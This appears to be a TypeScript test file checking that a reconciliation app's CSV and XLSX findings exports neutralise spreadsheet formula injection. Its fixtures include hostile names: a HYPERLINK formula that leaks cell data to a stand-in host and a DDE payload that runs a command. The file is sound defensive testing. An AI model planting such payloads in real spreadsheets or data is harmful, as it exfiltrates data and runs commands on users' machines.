/**
 * Company and person names that a spreadsheet would run as formulas (=HYPERLINK(…), +…, -…, @…) reach the findings
 * exports through the reconciliation: the CSV export (web and `baophu findings`) neutralises them; the XLSX export
 * writes them as plain string cells, never as formulas. Amounts stay numbers.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { FastifyInstance } from 'fastify';
import Papa from 'papaparse';
import ExcelJS from 'exceljs';
import { createTestDatabase, envFor, type TestDatabase } from '../helpers/db.ts';
import { testApp, addUser, login, type TestClient } from '../helpers/app.ts';
import { runCli } from '../helpers/cli.ts';
import { runReconciliation } from '../../server/reconcile/service.ts';
import { loadWorld, AS_OF, PERIOD, R, U, E } from './world.ts';

const LATE_COMPANY = '=HYPERLINK("http://evil.example/?leak="&A1,"Công ty Chậm Đóng")';
const UNDER_DECLARING = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const PERSON = '+Trần Thị Bình';
const FORMULA_START = /^[=+\-@\t\r]/;

let database: TestDatabase;
let app: FastifyInstance;
let bhxh: TestClient;
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rc-formula-'));

beforeAll(async () => {
  database = await createTestDatabase();
  await loadWorld(database);
  await database.pool.query('UPDATE src_bhxh_don_vi SET name = $1 WHERE unit_code = $2', [LATE_COMPANY, U.late]);
  await database.pool.query('UPDATE src_bhxh_don_vi SET name = $1 WHERE tax_code = $2', [UNDER_DECLARING, E.registered]);
  await database.pool.query('UPDATE src_dn_thue SET name = $1 WHERE tax_code = $2', [UNDER_DECLARING, E.registered]);
  await database.pool.query('UPDATE src_dan_cu SET full_name = $1 WHERE person_id = $2', [PERSON, R.other]);
  await runReconciliation(database, { asOf: AS_OF, period: PERIOD });
  app = await testApp(database);
  await addUser(database, 'bhxh1', 'social_security');
  bhxh = await login(app, 'bhxh1');
});
afterAll(async () => {
  await app.close();
  await database.destroy();
  fs.rmSync(dir, { recursive: true, force: true });
});

function expectNeutralised(csv: string) {
  const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  for (const row of parsed.data) for (const [column, cell] of Object.entries(row)) expect(cell, `${column}: ${cell}`).not.toMatch(FORMULA_START);
  const names = new Set(parsed.data.map((r) => r.subject_name));
  for (const hostile of [LATE_COMPANY, UNDER_DECLARING, PERSON]) expect(names.has(`'${hostile}`), hostile).toBe(true);
  const late = parsed.data.find((r) => r.code === 'DN_CHAM_DONG' && r.subject_id === U.late)!;
  expect(late.amount_vnd).toBe('1000000');
  return parsed.data;
}

describe('findings exports with formula-like names', () => {
  it('neutralises them in the CSV download', async () => {
    const res = await bhxh.get('/api/findings/export?format=csv');
    expect(res.status).toBe(200);
    expectNeutralised(res.body);
  });

  it('neutralises them in `baophu findings --format csv`', () => {
    const out = path.join(dir, 'findings.csv');
    const r = runCli(['findings', '--format', 'csv', '--out', out], envFor(database));
    expect(r.code).toBe(0);
    expectNeutralised(fs.readFileSync(out, 'utf8'));
  });

  it('writes them as plain strings, not formulas, in the XLSX download', async () => {
    const res = await app.inject({ method: 'GET', url: '/api/findings/export?format=xlsx', headers: { cookie: await cookieOf('bhxh1') } });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    wb.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    for (const hostile of [LATE_COMPANY, UNDER_DECLARING, PERSON]) {
      const cell = cells.find((c) => c.value === hostile);
      expect(cell?.type, hostile).toBe(ExcelJS.ValueType.String);
    }
    expect(cells.some((c) => c.value === 1_000_000 && c.type === ExcelJS.ValueType.Number)).toBe(true);
  });
});

async function cookieOf(username: string) {
  const res = await app.inject({ method: 'POST', url: '/api/auth/login', payload: { username, password: 'MatKhau123' } });
  return res.cookies.map((c) => `${c.name}=${c.value}`).join('; ');
}
